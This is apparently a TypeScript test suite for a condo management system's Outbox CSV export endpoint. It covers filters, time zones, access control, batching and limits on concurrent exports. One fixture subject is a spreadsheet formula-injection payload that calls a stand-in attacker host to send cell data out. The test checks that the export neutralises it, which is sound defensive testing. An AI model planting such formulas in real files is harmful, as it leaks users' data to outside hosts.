import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { get, type IncomingHttpHeaders } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { and, desc, eq, sql } from 'drizzle-orm';
import { adminUsers, condoMemberships, condos, outboxes, roleGroups } from '../../db/schema';
import { attachApp, DEMO, startTestApp, type TestApp, waitFor } from '../../test/harness';
import { dateTimeIn } from './export-csv';
import { outboxExportBatches } from './export-queries';
import { EXPORT_RETRY_AFTER_SECONDS, EXPORTS_PER_INSTANCE, EXPORTS_PER_USER } from './export-slots';
import { outboxFilterOf } from './list-filter';
import { outboxWhere } from './queries';

const MB = '/tenants/marina-bay';
const OG = '/tenants/orchid-gardens';
// A week of 2020, where the demo generator never writes: the fixture below is all the range holds.
const RANGE = 'fromTime=2020-03-02T00:00:00.000Z&toTime=2020-03-09T00:00:00.000Z';
const HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
const TITLES = ['Sent At', 'Medium', 'Recipient', 'Subject', 'Status'];

let t: TestApp;
let spec: TestApp;
const condoIds: Record<string, number> = {};

interface Fixture {
  at: string;
  medium: string;
  status: string;
  recipient: Record<string, unknown>;
  subject?: string | null;
  content?: string;
  recipientType?: string;
}

/** marina-bay's USER tab in the week, newest last here (the export writes newest first). */
const MINE: Fixture[] = [
  {
    at: '2020-03-03T01:02:03.456Z',
    medium: 'mail',
    status: 'delivered',
    recipient: { full_name: 'Jane Tan', email: 'jane@mail.example' },
    subject: HYPERLINK,
    content: '<p>body</p>',
  },
  {
    at: '2020-03-04T10:00:00.000Z',
    medium: 'sms',
    status: 'undelivered',
    recipient: { full_name: 'Bob Lee', phone: '91234567', country_code: 65 },
    content: 'Your gate code is 1234, valid "today"\nand tomorrow, until the end of the week as agreed',
  },
  {
    at: '2020-03-05T23:30:00.000Z',
    medium: 'whatsapp',
    status: 'failed',
    recipient: { full_name: '', phone: '+6598765432' },
    content: '-5 days left',
  },
  {
    at: '2020-03-06T08:00:00.000Z',
    medium: 'sms',
    status: 'delivered',
    recipient: { full_name: 'Ann Resident', phone: '90000001', country_code: 65 },
    content: 'For the RESIDENT tab',
    recipientType: 'resident',
  },
];
const THEIRS: Fixture[] = [
  {
    at: '2020-03-04T09:00:00.000Z',
    medium: 'mail',
    status: 'delivered',
    recipient: { full_name: 'Orchid Owner', email: 'owner@orchid.example' },
    subject: 'Orchid secret',
  },
];

async function insert(alias: string, fixture: Fixture[]) {
  const db = t.database.db;
  const [condo] = await db.select({ id: condos.id }).from(condos).where(eq(condos.aliasName, alias));
  const condoId = (condo as { id: number }).id;
  condoIds[alias] = condoId;
  await db.insert(outboxes).values(
    fixture.map((row) => ({
      condoId,
      from: row.medium === 'mail' ? ['Smart Condo Management <no-reply@smartcondo.local>'] : 'SMARTCONDO',
      subject: row.subject ?? null,
      recipient: row.recipient,
      content: row.content ?? '',
      medium: row.medium,
      status: row.status,
      type: row.medium === 'mail' ? 'MailSent' : 'SmsSent',
      recipientType: row.recipientType ?? 'user',
      createdAt: new Date(row.at),
      updatedAt: new Date(row.at),
    })),
  );
}

before(async () => {
  t = await startTestApp();
  spec = await attachApp(t, { contract: 'spec' });
  await insert('marina-bay', MINE);
  await insert('orchid-gardens', THEIRS);
});
after(async () => {
  await spec.app.close();
  await t.close();
});

async function exportCsv(query: string, { email = DEMO.manager as string, app = t, condo = MB } = {}) {
  return app.app.inject({
    method: 'GET',
    url: `${condo}/api/v1/outboxes/export?${query}`,
    headers: await t.authAs(email),
  });
}

/** The file as rows of cells, titles first. */
const rowsOf = (body: string) => parse(body, { bom: true }) as string[][];

describe('GET /api/v1/outboxes/export (an addition: the Outbox list as CSV)', () => {
  test('every row of the USER tab, newest first, with the table’s titles, labels and date format (UTC)', async () => {
    const response = await exportCsv(RANGE);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(response.headers['content-disposition'], 'attachment; filename="outbox-2020-03-02-2020-03-08.csv"');
    assert.ok(response.body.startsWith('\uFEFFSent At,Medium,Recipient,Subject,Status\r\n'), 'BOM, titles, CRLF');
    assert.deepEqual(rowsOf(response.body), [
      TITLES,
      ['05-03-2020 23:30:00', 'WhatsApp', '+6598765432', "'-5 days left", 'Failed'],
      [
        '04-03-2020 10:00:00',
        'SMS',
        'Bob Lee <+65 91234567>',
        'Your gate code is 1234, valid "today"\nand tomorrow, until the end of the week as agreed',
        'UnDelivered',
      ],
      ['03-03-2020 01:02:03', 'Mail', 'Jane Tan <jane@mail.example>', `'${HYPERLINK}`, 'Delivered'],
    ]);
  });

  test('a subject that starts like a formula is text behind a quote; the full subject, never cut', async () => {
    const [, mail] = rowsOf((await exportCsv(`${RANGE}&columns=subject&selectedMedium=mail`)).body);
    assert.deepEqual(mail, [`'${HYPERLINK}`]);
    const [, sms] = rowsOf((await exportCsv(`${RANGE}&columns=subject&selectedMedium=sms`)).body);
    assert.ok(String(sms?.[0]).length > 30, 'not truncated as the table shows it');
  });

  test('the list’s filters: tab, medium, status, recipient, search', async () => {
    const subjects = async (filters: string, range = RANGE) =>
      rowsOf((await exportCsv(`${range}&columns=recipient&${filters}`)).body)
        .slice(1)
        .map(([recipient]) => recipient);
    assert.deepEqual(await subjects('recipient_type=resident'), ['Ann Resident <+65 90000001>']);
    assert.deepEqual(await subjects('selectedMedium=sms,whatsapp'), ['+6598765432', 'Bob Lee <+65 91234567>']);
    assert.deepEqual(await subjects('selectedMedium=sms&selectedMedium=mail'), [
      'Bob Lee <+65 91234567>',
      'Jane Tan <jane@mail.example>',
    ]);
    assert.deepEqual(await subjects('selectedStatus=undelivered,failed'), ['+6598765432', 'Bob Lee <+65 91234567>']);
    assert.deepEqual(await subjects('selectedRecipient=Jane%20Tan'), ['Jane Tan <jane@mail.example>']);
    assert.deepEqual(await subjects('search=jane%40mail'), ['Jane Tan <jane@mail.example>']);
    assert.deepEqual(await subjects('', 'fromTime=2020-03-04T00:00:00Z&toTime=2020-03-05T00:00:00Z'), [
      'Bob Lee <+65 91234567>',
    ]);
  });

  test('columns pick and order the columns; tz writes Sent At in that zone (and names the file by its days)', async () => {
    const response = await exportCsv(`${RANGE}&columns=status,created_at&tz=Asia/Singapore&selectedMedium=mail`);
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(rowsOf(response.body), [
      ['Status', 'Sent At'],
      ['Delivered', '03-03-2020 09:02:03'],
    ]);
    assert.match(response.headers['content-disposition'] as string, /filename="outbox-2020-03-02-2020-03-09\.csv"/);
    const newYork = rowsOf((await exportCsv(`${RANGE}&columns=created_at&tz=America/New_York`)).body);
    assert.deepEqual(newYork.slice(1).flat(), ['05-03-2020 18:30:00', '04-03-2020 05:00:00', '02-03-2020 20:02:03']);
    const repeated = rowsOf((await exportCsv(`${RANGE}&columns=medium&columns=subject&selectedMedium=mail`)).body);
    assert.deepEqual(repeated[0], ['Medium', 'Subject']);
  });

  test('bad input is a 422 that says what is wrong', async () => {
    const cases: [string, RegExp][] = [
      [`${RANGE}&tz=Mars/Olympus_Mons`, /tz: 'Mars\/Olympus_Mons' is not a known IANA time zone/],
      [`${RANGE}&columns=created_at,secret`, /columns: unknown column 'secret'; the columns are created_at, medium/],
      [`${RANGE}&columns=status,status`, /columns: 'status' is given twice/],
      ['fromTime=2020-03-09T00:00:00Z&toTime=2020-03-02T00:00:00Z', /fromTime must not be after toTime/],
      [`${RANGE}&tz=${'x'.repeat(65)}`, /tz/],
    ];
    for (const [query, message] of cases) {
      const response = await exportCsv(query);
      assert.equal(response.statusCode, 422, `${query}: ${response.body}`);
      assert.match(response.json().message, message);
    }
  });

  test('another condo’s messages never appear; a stranger to the condo gets 404, a role without index 403', async () => {
    const mine = (await exportCsv(`${RANGE}&selectedMedium=mail&recipient_type=user`)).body;
    assert.ok(!mine.includes('Orchid'));
    assert.equal((await exportCsv(RANGE, { condo: OG })).statusCode, 404);

    const [group] = await t.database.db
      .insert(roleGroups)
      .values({ name: 'No Outbox Export', type: 'UserRoleGroup', permissions: { 'api/v1/condos': ['show'] } })
      .returning();
    const [viewer] = await t.database.db.select().from(adminUsers).where(eq(adminUsers.email, DEMO.viewer));
    await t.database.db
      .update(condoMemberships)
      .set({ roleGroupId: group?.id as number })
      .where(
        and(
          eq(condoMemberships.adminUserId, viewer?.id as number),
          eq(condoMemberships.condoId, condoIds['marina-bay'] as number),
        ),
      );
    await new Promise((resolve) => setTimeout(resolve, 50));
    const refused = await exportCsv(RANGE, { email: DEMO.viewer });
    assert.equal(refused.statusCode, 403);
    assert.equal(refused.headers['content-type'], 'application/json; charset=utf-8');
  });

  test('API_CONTRACT=spec has no export: 404 as an unknown path (the console pages the list instead)', async () => {
    const response = await exportCsv(RANGE, { app: spec });
    assert.equal(response.statusCode, 404);
    assert.deepEqual(response.json(), { message: 'Not Found' });
    assert.equal(
      (await spec.app.inject({ url: `${MB}/api/v1/outboxes?${RANGE}`, headers: await t.authAs(DEMO.manager) }))
        .statusCode,
      200,
    );
  });

  test('keyset batches: rows of one millisecond (apart by microseconds or equal) are neither skipped nor repeated', async () => {
    const db = t.database.db;
    const condoId = condoIds['marina-bay'] as number;
    const times = [
      '2020-03-07 12:00:00.000001+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000900+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000003+00',
      '2020-03-07 12:00:00+00',
    ];
    for (const time of times) {
      await db.execute(sql`
        INSERT INTO outboxes (condo_id, "from", recipient, content, medium, status, type, recipient_type, created_at)
        VALUES (${condoId}, '"SMARTCONDO"'::jsonb, '{"full_name": "Tie"}'::jsonb, 'tie', 'fcm', 'sent', 'FcmSent',
                'contractor', ${time}::timestamptz)`);
    }
    const query = { fromTime: '2020-03-02T00:00:00Z', toTime: '2020-03-09T00:00:00Z', recipient_type: 'contractor' };
    const filter = outboxFilterOf(query, condoId, new Date());
    const expected = await db
      .select({ id: outboxes.id })
      .from(outboxes)
      .where(and(...outboxWhere(filter)))
      .orderBy(desc(outboxes.createdAt), desc(outboxes.id));
    assert.equal(expected.length, times.length);
    const batches: number[][] = [];
    for await (const rows of outboxExportBatches(db, filter, 2)) batches.push(rows.map((row) => row.id));
    assert.deepEqual(
      batches.map((batch) => batch.length),
      [2, 2, 2, 1],
    );
    assert.deepEqual(
      batches.flat(),
      expected.map((row) => row.id),
    );
  });

  test('Sent At in a zone is what Intl says, also across the hour of a clock change (the hourly offset cache)', () => {
    const reference = (timeZone: string) => {
      const format = new Intl.DateTimeFormat('en-GB', {
        timeZone,
        dateStyle: 'short',
        timeStyle: 'medium',
        hourCycle: 'h23',
      });
      return (ms: number) => format.format(ms).replaceAll('/', '-').replace(', ', ' ');
    };
    // New York's spring and autumn changes of 2026, Lord Howe's half-hour change, Kolkata's +5:30, and UTC.
    const spans: [string, string][] = [
      ['America/New_York', '2026-03-08T05:00:00Z'],
      ['America/New_York', '2026-11-01T04:30:00Z'],
      ['Australia/Lord_Howe', '2026-04-04T14:30:00Z'],
      ['Asia/Kolkata', '2026-11-16T00:00:00Z'],
      ['UTC', '2026-12-31T22:00:00Z'],
    ];
    for (const [zone, around] of spans) {
      const fast = dateTimeIn(zone);
      const slow = reference(zone);
      const start = Date.parse(around) - 3 * 3_600_000;
      for (let ms = start; ms < start + 6 * 3_600_000; ms += 97_531) assert.equal(fast(ms), slow(ms), `${zone} ${ms}`);
    }
    assert.equal(dateTimeIn('UTC')(Date.parse('2026-12-31T23:59:59.999Z')), '31-12-2026 23:59:59');
  });
});

// June 2019: a range no other test reads, filled with enough rows that the file far outgrows what the server holds
// (three batches of 2,000 rows) and the socket buffers, so an export whose client reads only its first chunk stays
// running: the server waits on back-pressure. A Unix socket's buffers are a fixed ~200 kB; TCP's grow to megabytes.
const BULK_RANGE = 'fromTime=2019-06-01T00:00:00.000Z&toTime=2019-06-08T00:00:00.000Z';
const BULK_ROWS = 20_000;

interface OpenExport {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
  /** Drops the connection, as a browser does when its download is cancelled. */
  abort(): void;
}

describe('How many Outbox exports run at once', () => {
  let other: TestApp;
  const socketPath = join(tmpdir(), `condo-export-${randomUUID()}.sock`);
  const open: OpenExport[] = [];
  before(async () => {
    await t.database.db.execute(sql`
      INSERT INTO outboxes (condo_id, "from", recipient, subject, content, medium, status, type, recipient_type,
                            created_at)
      SELECT ${condoIds['marina-bay']}, '"SMARTCONDO"'::jsonb, jsonb_build_object('full_name', 'Bulk ' || n),
             repeat('A long subject ', 10), '', 'sms', 'sent', 'SmsSent', 'user',
             '2019-06-01T00:00:00Z'::timestamptz + n * interval '1 second'
      FROM generate_series(1, ${BULK_ROWS}) AS n`);
    // Its own app (its own count of exports), listening: a client that stops reading or goes away needs a socket.
    other = await attachApp(t);
    await other.app.listen({ path: socketPath });
  });
  after(async () => {
    for (const started of open) started.abort();
    await other.app.close();
  });

  /** Starts an export of the bulk range; a 200 is read up to its first chunk and left waiting there. */
  async function startExport(email: string): Promise<OpenExport> {
    const controller = new AbortController();
    const headers = await t.authAs(email);
    const started = await new Promise<OpenExport>((resolve, reject) => {
      const request = get(
        `http://localhost${MB}/api/v1/outboxes/export?${BULK_RANGE}`,
        { socketPath, headers, agent: false, signal: controller.signal },
        (response) => {
          response.on('error', () => {});
          response.setEncoding('utf8');
          const answer = (body: string) =>
            resolve({
              status: response.statusCode ?? 0,
              headers: response.headers,
              body,
              abort: () => controller.abort(),
            });
          if (response.statusCode !== 200) {
            let body = '';
            response.on('data', (chunk: string) => {
              body += chunk;
            });
            response.on('end', () => answer(body));
            return;
          }
          response.once('data', (chunk: string) => {
            response.pause();
            answer(chunk);
          });
        },
      );
      request.on('error', (error) => {
        if (error.name !== 'AbortError') reject(error);
      });
    });
    if (started.status === 200) open.push(started);
    return started;
  }

  test(`at most ${EXPORTS_PER_USER} per user and ${EXPORTS_PER_INSTANCE} per instance: beyond, a 429 that says which, with Retry-After`, async () => {
    // A finished export frees its slot: one after another, a user may export any number of times.
    for (let i = 0; i < EXPORTS_PER_USER + 1; i++) {
      const done = await other.app.inject({
        url: `${MB}/api/v1/outboxes/export?${RANGE}`,
        headers: await t.authAs(DEMO.manager),
      });
      assert.equal(done.statusCode, 200, done.body);
    }

    const mine = [await startExport(DEMO.manager), await startExport(DEMO.manager)];
    assert.deepEqual(
      mine.map((started) => started.status),
      [200, 200],
    );
    assert.ok(mine[0]?.body.startsWith('\uFEFFSent At,'), 'the file has started');
    const third = await startExport(DEMO.manager);
    assert.equal(third.status, 429, third.body);
    assert.equal(third.headers['content-type'], 'application/json; charset=utf-8');
    assert.deepEqual(JSON.parse(third.body), {
      message: 'You already have 2 exports running, the most at once; wait for one to finish.',
    });
    assert.equal(third.headers['retry-after'], String(EXPORT_RETRY_AFTER_SECONDS));

    const theirs = [await startExport(DEMO.admin), await startExport(DEMO.admin)];
    assert.deepEqual(
      theirs.map((started) => started.status),
      [200, 200],
      'another user has slots of their own',
    );
    const fifth = await startExport(DEMO.condoAdmin);
    assert.equal(fifth.status, 429, fifth.body);
    assert.equal(
      JSON.parse(fifth.body).message,
      'The server is already running 4 exports, the most at once; try again in a few seconds.',
    );
    assert.equal(fifth.headers['retry-after'], String(EXPORT_RETRY_AFTER_SECONDS));
  });

  test('a client that goes away mid-file frees its slot: the next export is accepted', async () => {
    const first = open.find((started) => started.status === 200);
    assert.ok(first, 'the previous test left exports running');
    assert.equal((await startExport(DEMO.manager)).status, 429, 'still two running for the manager');
    first.abort();
    let next: OpenExport | undefined;
    await waitFor(
      async () => {
        next = await startExport(DEMO.manager);
        return next.status === 200;
      },
      5000,
      'a new export after the abort',
    );
    assert.ok(next?.body.startsWith('\uFEFFSent At,'));
  });
});
